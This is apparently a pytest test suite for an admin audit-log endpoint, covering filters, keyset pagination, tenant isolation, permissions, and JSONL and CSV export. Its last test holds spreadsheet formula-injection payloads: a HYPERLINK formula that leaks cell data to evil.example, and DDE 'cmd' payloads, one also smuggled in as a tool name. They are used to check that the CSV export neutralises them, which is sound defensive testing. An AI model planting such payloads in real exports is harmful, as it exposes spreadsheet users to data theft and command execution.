"""GET /v1/admin/audit and its export: filters, keyset pages newest first, tenant-scoped, audit:read."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from tests.support.calls import call_tools, new_run, tool_call
from tests.support.tokens import auth_for

CAROL = auth_for("carol")


@pytest.fixture
async def history(client):
    """alice: two adds; bob: a division by zero and a held-back article; globex: one add."""
    alice_run = await new_run(client, "alice")
    await call_tools(client, alice_run, [tool_call("add", {"a": 1, "b": 2}), tool_call("add", {"a": 2, "b": 2})])
    middle = datetime.now(UTC)
    bob_run = await new_run(client, "bob")
    [_, held] = await call_tools(
        client, bob_run,
        [tool_call("divide", {"a": 1, "b": 0}), tool_call("create_article", {"title": "T", "body": "B"})], "bob",
    )
    globex_run = await new_run(client, "alice", "globex")
    await call_tools(client, globex_run, [tool_call("add", {"a": 1, "b": 1})], "alice", "globex")
    return {"alice_run": alice_run, "bob_run": bob_run, "approval": held["error"]["approval_id"], "middle": middle}


async def _items(client, **params) -> list[dict]:
    response = await client.get("/v1/admin/audit", params=params, headers=CAROL)
    assert response.status_code == 200, response.text
    return list(response.json()["items"])


async def test_newest_first_and_only_the_callers_tenant(client, history):
    items = await _items(client)
    ids = [i["id"] for i in items]
    assert ids == sorted(ids, reverse=True)
    assert len(items) == 4
    assert {i["tool"] for i in items} == {"add", "divide", "create_article"}
    globex = (await client.get("/v1/admin/audit", headers=auth_for("carol", "globex"))).json()["items"]
    assert [(i["tool"], i["outcome"]) for i in globex] == [("add", "OK")]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"user": "alice"}, {("add", "OK")}),
        ({"user": "bob"}, {("divide", "BUSINESS_RULE_VIOLATION"), ("create_article", "APPROVAL_REQUIRED")}),
        ({"tool": "divide"}, {("divide", "BUSINESS_RULE_VIOLATION")}),
        ({"outcome": "APPROVAL_REQUIRED"}, {("create_article", "APPROVAL_REQUIRED")}),
        ({"user": "alice", "outcome": "APPROVAL_REQUIRED"}, set()),
    ],
)
async def test_filters(client, history, params, expected):
    assert {(i["tool"], i["outcome"]) for i in await _items(client, **params)} == expected


async def test_filters_by_run_approval_and_time(client, history):
    assert {i["run_id"] for i in await _items(client, run=history["bob_run"])} == {history["bob_run"]}
    [row] = await _items(client, approval=history["approval"])
    assert row["tool"] == "create_article" and row["approval_id"] == history["approval"]
    middle = history["middle"].isoformat()
    assert {i["user_id"] for i in await _items(client, since=middle)} == {"bob"}
    assert {i["user_id"] for i in await _items(client, until=middle)} == {"alice"}


async def test_keyset_pages_cover_every_row_once_and_the_last_has_no_cursor(client, history):
    everything = [i["id"] for i in await _items(client)]
    seen: list[int] = []
    cursor = None
    pages = 0
    while True:
        params = {"limit": 3} | ({"cursor": cursor} if cursor else {})
        body = (await client.get("/v1/admin/audit", params=params, headers=CAROL)).json()
        seen += [i["id"] for i in body["items"]]
        pages += 1
        cursor = body.get("next_cursor")
        if cursor is None:
            break
    assert seen == everything
    assert pages == 2


async def test_a_page_that_ends_exactly_has_no_cursor(client, history):
    body = (await client.get("/v1/admin/audit", params={"limit": 4}, headers=CAROL)).json()
    assert len(body["items"]) == 4
    assert body["next_cursor"] is None


async def test_bad_cursor_and_naive_times_are_invalid_requests(client, history):
    for params in ({"cursor": "not-a-cursor"}, {"since": "2026-01-01T00:00:00"}, {"limit": 0}):
        response = await client.get("/v1/admin/audit", params=params, headers=CAROL)
        assert response.status_code == 400, params
        assert response.json()["error"]["code"] == "INVALID_REQUEST"


async def test_audit_needs_audit_read(client, history):
    for path in ("/v1/admin/audit", "/v1/admin/audit/export"):
        response = await client.get(path, headers=auth_for("bob"))
        assert response.status_code == 403
        assert response.json()["error"]["code"] == "FORBIDDEN"


async def test_export_jsonl_streams_the_filtered_rows(client, history):
    response = await client.get("/v1/admin/audit/export", params={"user": "bob"}, headers=CAROL)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert [r["id"] for r in rows] == [i["id"] for i in await _items(client, user="bob")]
    assert {r["user_id"] for r in rows} == {"bob"}


async def test_export_csv_has_a_header_and_the_same_rows(client, history):
    response = await client.get("/v1/admin/audit/export", params={"format": "csv"}, headers=CAROL)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [int(r["id"]) for r in rows] == [i["id"] for i in await _items(client)]
    divide = next(r for r in rows if r["tool"] == "divide")
    assert json.loads(divide["arguments"]) == {"a": 1, "b": 0}


async def test_export_of_another_tenant_holds_none_of_its_rows(client, history):
    response = await client.get("/v1/admin/audit/export", headers=auth_for("carol", "globex"))
    assert [json.loads(line)["tool"] for line in response.text.splitlines()] == ["add"]


async def test_export_refuses_an_unknown_format(client, history):
    response = await client.get("/v1/admin/audit/export", params={"format": "xml"}, headers=CAROL)
    assert response.status_code == 400


FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


async def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(client):
    run = await new_run(client, "alice")
    await call_tools(client, run, [tool_call("add", {"a": n, "b": 2}, call_id=call_id)
                                   for n, call_id in enumerate(FORMULAS)])
    [unknown] = await call_tools(client, run, [tool_call("=cmd|' /C calc'!A0", {}, call_id="call_tool_name")])
    assert unknown["error"]["code"] == "TOOL_NOT_FOUND"

    response = await client.get("/v1/admin/audit/export", params={"format": "csv", "run": run}, headers=CAROL)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    by_id = {r["tool_call_id"]: r for r in rows}
    for call_id in FORMULAS:
        assert by_id["'" + call_id]["tool"] == "add"
    assert by_id["call_tool_name"]["tool"] == "'=cmd|' /C calc'!A0"
    # No cell of any row starts with what a spreadsheet evaluates, and the rest is untouched.
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    assert {r["outcome"] for r in rows} == {"OK", "TOOL_NOT_FOUND"}
    assert sorted(json.loads(r["arguments"] or "{}").get("a", -1) for r in rows) == [-1, 0, 1, 2, 3, 4, 5]
    # JSON Lines carries the values as they are.
    jsonl = await client.get("/v1/admin/audit/export", params={"run": run}, headers=CAROL)
    assert {json.loads(line)["tool_call_id"] for line in jsonl.text.splitlines()} == {*FORMULAS, "call_tool_name"}
